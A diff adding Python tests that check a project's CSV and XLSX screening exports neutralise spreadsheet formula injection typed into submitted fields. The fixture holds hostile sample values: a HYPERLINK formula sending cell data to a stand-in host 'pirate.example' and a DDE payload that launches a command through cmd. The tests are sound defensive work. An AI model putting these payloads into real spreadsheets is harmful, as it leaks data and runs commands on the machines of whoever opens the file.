@@ -452,3 +452,39 @@ def test_publish_an_already_published_call_keeps_its_date(manager_client, call):
 
     call.refresh_from_db()
     assert call.published_at == published_at
+
+
+# Exports never turn typed text into a formula ----------------------------------------
+
+FORMULA = '=HYPERLINK("https://pirate.example/?d="&A1,"Voir")'
+
+
+@pytest.fixture
+def hostile(call):
+    return DossierFactory(
+        submitted=True,
+        call=call,
+        innovation_name=FORMULA,
+        organisation=OrganisationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0"),
+        results_period="-2+3",
+    )
+
+
+def test_csv_export_neutralises_formulas_typed_by_carriers(manager_client, call, hostile):
+    _response, rows = _csv(manager_client, call)
+
+    row = rows[1]
+    assert row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row[2] == "'" + FORMULA
+    assert row[14] == "'-2+3"
+    assert row[0] == str(hostile.pk)  # numbers are left alone
+
+
+def test_xlsx_export_stores_formulas_typed_by_carriers_as_text(manager_client, call, hostile):
+    response = manager_client.get(reverse("projects:screening_export", args=[call.pk, "xlsx"]))
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    innovation, organisation, period = sheet["C2"], sheet["B2"], sheet["O2"]
+    assert (innovation.value, innovation.data_type) == (FORMULA, "s")
+    assert (organisation.data_type, period.data_type) == ("s", "s")
+    assert (sheet["A2"].value, sheet["A2"].data_type) == (hostile.pk, "n")
